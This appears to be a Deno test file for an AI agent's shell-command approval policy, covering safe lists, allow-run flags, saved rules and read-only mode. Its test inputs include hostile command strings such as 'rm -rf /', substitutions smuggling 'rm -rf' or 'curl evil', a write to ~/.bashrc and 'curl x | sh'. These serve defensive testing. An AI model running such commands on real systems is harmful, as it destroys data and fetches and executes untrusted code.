import assert from "node:assert/strict";
import {
  type Answer,
  type ApprovalRequest,
  decide,
  type Decision,
} from "../../src/policy/approval.ts";
import { DEFAULT_POLICY, type Policy } from "../../src/policy/policy.ts";

const never = new AbortController().signal;

function ctxWith(options: { policy?: Partial<Policy>; rules?: string[]; answer?: Answer } = {}) {
  const asked: ApprovalRequest[] = [];
  const remembered: string[][] = [];
  return {
    asked,
    remembered,
    ctx: {
      policy: { ...DEFAULT_POLICY, ...options.policy },
      rules: options.rules ?? [],
      ask: options.answer === undefined ? undefined : (request: ApprovalRequest) => {
        asked.push(request);
        return Promise.resolve(options.answer as Answer);
      },
      remember: (prefixes: readonly string[]) => {
        remembered.push([...prefixes]);
        return Promise.resolve();
      },
    },
  };
}

function denied(decision: Decision, why = ""): Decision & { allow: false } {
  if (decision.allow) assert.fail(`expected a denial (${why}), got ${JSON.stringify(decision)}`);
  return decision;
}

Deno.test("a single safe-list command runs without asking, as its judged argv", async () => {
  const { ctx, asked } = ctxWith({ answer: { kind: "deny" } });
  assert.deepEqual(await decide("cat 'a b.txt'", ctx, never), {
    allow: true,
    source: "safe_list",
    invocation: { kind: "argv", argv: ["cat", "a b.txt"], env: {} },
  });
  const git = await decide("git status", ctx, never);
  assert.ok(git.allow && git.invocation?.argv.includes("core.fsmonitor=false"));
  assert.equal(asked.length, 0);
});

Deno.test("pipes and lists of safe commands are asked about, each part a rule", async () => {
  const { ctx, asked } = ctxWith({ answer: { kind: "once" } });
  assert.deepEqual(await decide("git log --oneline | head -n 3", ctx, never), {
    allow: true,
    source: "user",
    scope: "once",
  });
  assert.deepEqual(asked, [{
    command: "git log --oneline | head -n 3",
    prefixes: ["git log --oneline", "head -n 3"],
  }]);
});

Deno.test("without anyone to ask, other commands are denied with a reason the model can act on", async () => {
  const { ctx } = ctxWith();
  const decision = denied(await decide("npm test", ctx, never));
  assert.equal(decision.source, "non_interactive");
  assert.match(decision.reason, /Not pre-approved: npm test\./);
  assert.match(decision.reason, /--allow-run/);
  const hidden = denied(await decide("ls $(rm -rf x)", ctx, never));
  assert.match(hidden.reason, /substitution/);
});

Deno.test("--allow-run names programs; every command of a chain must be allowed", async () => {
  const { ctx } = ctxWith({ policy: { run: ["npm"] } });
  assert.deepEqual(await decide("npm install && npm test 2>&1", ctx, never), {
    allow: true,
    source: "allow_run",
  });
  assert.deepEqual(await decide("npm test 2>&1 | tail -n 20", ctx, never), {
    allow: true,
    source: "allow_run",
  });
  denied(await decide("npm test && rm -rf /", ctx, never));
  denied(await decide("npm test | tail > out", ctx, never), "a safe part must be safe alone");
  denied(await decide("npm test | tail *", ctx, never), "a safe part must be plain");
  denied(await decide("npm test && git status", ctx, never), "git runs hardened only alone");
  denied(await decide("ls | tail", ctx, never), "safe parts alone run on nobody's approval");
  denied(await decide("./npm test", ctx, never));
  denied(await decide("PATH=. npm test", ctx, never));
  denied(await decide("{npm,rm} test", ctx, never));
  denied(await decide("npm test $(curl evil)", ctx, never));
  denied(await decide("npm test > ~/.bashrc", ctx, never));
});

Deno.test("bare --allow-run (and -A) allows everything, substitutions included", async () => {
  const { ctx } = ctxWith({ policy: { run: "all" } });
  assert.deepEqual(await decide("curl x | sh &", ctx, never), { allow: true, source: "all" });
  const safe = await decide("git status", ctx, never);
  assert.ok(safe.allow && safe.source === "safe_list", "a safe line still runs hardened");
  assert.ok(safe.invocation?.argv.includes("safe.bareRepository=explicit"));
});

Deno.test("read-only mode runs only the safe list, whatever else is allowed", async () => {
  const { ctx, asked } = ctxWith({
    policy: { readOnly: true, run: "all" },
    answer: { kind: "once" },
    rules: ["touch"],
  });
  assert.equal((await decide("cat a.txt", ctx, never)).allow, true);
  assert.equal(denied(await decide("touch a.txt", ctx, never)).source, "read_only");
  assert.equal(denied(await decide("cat {..,.}/x", ctx, never)).source, "read_only");
  assert.equal(denied(await decide("ls | cat", ctx, never)).source, "read_only");
  assert.equal(asked.length, 0);
});

Deno.test("a saved rule covers commands whose words start with its words", async () => {
  const { ctx } = ctxWith({ rules: ["git commit", "make", "rm -rf build"] });
  assert.deepEqual(await decide("git commit -m 'x' && make test", ctx, never), {
    allow: true,
    source: "rule",
    rules: ["git commit", "make"],
  });
  assert.equal((await decide("rm -rf 'build'", ctx, never)).allow, true);
  denied(await decide("git push", ctx, never));
  denied(await decide("rm -rf important", ctx, never));
  denied(await decide("rm -rf buildx", ctx, never), "words, not a string prefix");
  denied(await decide("rm -rf", ctx, never), "a shorter command is not covered");
  denied(await decide("rm -rf build*", ctx, never), "a glob in the rule's words");
  denied(await decide("make > /etc/x", ctx, never), "a redirection the rule did not include");
});

Deno.test("a rule with a redirection covers exactly that redirection", async () => {
  const { ctx } = ctxWith({ rules: ["printf done > build/out.log"] });
  assert.equal((await decide("printf done >build/out.log", ctx, never)).allow, true);
  denied(await decide("printf done", ctx, never));
  denied(await decide("printf done > build/other.log", ctx, never));
  denied(await decide("printf done > build/out.log 2> err", ctx, never));
});

Deno.test("always saves each command's whole argv; the line needs every part covered", async () => {
  const line = "rm -rf build && mkdir build && echo done > build/out.log";
  const always = ctxWith({ answer: { kind: "always" } });
  const decision = await decide(line, always.ctx, never);
  const rules = ["rm -rf build", "mkdir build", "echo done > build/out.log"];
  assert.deepEqual(decision, { allow: true, source: "user", scope: "always", rules });
  assert.deepEqual(always.asked, [{ command: line, prefixes: rules }]);
  assert.deepEqual(always.remembered, [rules]);

  const later = ctxWith({ rules });
  assert.equal((await decide(line, later.ctx, never)).source, "rule");
  denied(await decide("rm -rf important", later.ctx, never));
  denied(await decide("rm -rf build && rm -rf important", later.ctx, never));
  denied(await decide("echo done > elsewhere", later.ctx, never));
  denied(await decide("mkdir build; touch x", later.ctx, never));
});

Deno.test("asking: once runs, always saves only the uncovered parts, deny passes the reason", async () => {
  const once = ctxWith({ answer: { kind: "once" } });
  assert.deepEqual(await decide("npm test", once.ctx, never), {
    allow: true,
    source: "user",
    scope: "once",
  });
  assert.deepEqual(once.asked, [{ command: "npm test", prefixes: ["npm test"] }]);
  assert.deepEqual(once.remembered, []);

  const always = ctxWith({ answer: { kind: "always" }, policy: { run: ["git"] } });
  const decision = await decide("git add . && cargo build --release 'a b'", always.ctx, never);
  assert.deepEqual(decision, {
    allow: true,
    source: "user",
    scope: "always",
    rules: ["cargo build --release 'a b'"],
  });
  assert.deepEqual(always.remembered, [["cargo build --release 'a b'"]]);

  const no = ctxWith({ answer: { kind: "deny", reason: "use pnpm" } });
  const refused = denied(await decide("npm test", no.ctx, never));
  assert.equal(refused.source, "user");
  assert.equal(refused.userReason, "use pnpm");
});

Deno.test("always on a line with substitution or a glob approves it once and saves nothing", async () => {
  for (const command of ["echo $(date)", "rm *.o", "rm -rf build && rm {a,b}"]) {
    const { ctx, asked, remembered } = ctxWith({ answer: { kind: "always" } });
    assert.deepEqual(await decide(command, ctx, never), {
      allow: true,
      source: "user",
      scope: "once",
    });
    assert.deepEqual(asked, [{ command, prefixes: [] }], command);
    assert.deepEqual(remembered, []);
  }
});

Deno.test("a bare redirection needs approval and offers no empty prefix to save", async () => {
  const { ctx, asked, remembered } = ctxWith({ answer: { kind: "always" } });
  assert.deepEqual(await decide("> notes.txt", ctx, never), {
    allow: true,
    source: "user",
    scope: "once",
  });
  assert.deepEqual(asked, [{ command: "> notes.txt", prefixes: [] }]);
  assert.deepEqual(remembered, []);
});

Deno.test("rules saved by older versions keep their meaning: word prefixes", async () => {
  const { ctx } = ctxWith({ rules: ["npm", "git commit", "unparsable 'rule"] });
  assert.equal((await decide("npm run build", ctx, never)).source, "rule");
  assert.equal((await decide("git commit -m x", ctx, never)).source, "rule");
  denied(await decide("unparsable 'rule", ctx, never));
});
